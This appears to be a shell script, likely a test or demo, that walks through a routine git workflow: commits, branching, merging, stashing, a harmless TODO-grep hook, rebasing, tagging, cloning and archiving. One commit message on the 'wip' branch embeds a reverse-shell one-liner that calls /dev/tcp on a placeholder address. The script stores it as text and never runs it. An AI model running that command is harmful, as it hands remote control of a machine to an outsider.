# A day with git: commits, branches, a merge, a clone, a clean-up. needs: git
set -e
export GIT_AUTHOR_NAME=Ann GIT_AUTHOR_EMAIL=ann@trust.example GIT_COMMITTER_NAME=Ann GIT_COMMITTER_EMAIL=ann@trust.example
git init -q work && cd work
for n in 1 2 3; do echo "line $n" >> notes.md; git add -A; git commit -qm "Note $n"; done
git checkout -qb wip && echo more >> notes.md && git commit -qam "Find reverse shells: bash -i >& /dev/tcp/10.0.0.1/9 0>&1"
git checkout -q - && echo other > other.md && git add -A && git commit -qm other
git merge -q --no-edit wip
git log --oneline --stat > /dev/null && git diff HEAD~1 > /dev/null && git grep -n line > /dev/null && git blame notes.md > /dev/null
echo x >> notes.md && git stash -q && git stash pop -q && git checkout -q -- .
printf '#!/bin/sh\nexec grep -rn TODO . || true\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
echo y >> notes.md && git commit -qam "With a hook"
git rebase -q HEAD~1 && git tag -a v1 -m v1 && git gc -q && git fsck > /dev/null 2>&1
cd .. && git clone -q --no-local work copy && git -C copy pull -q && git bundle create -q all.bundle --all 2> /dev/null || git -C work bundle create ../all.bundle --all > /dev/null 2>&1
git -C work archive --format=tar HEAD | gzip > work.tar.gz
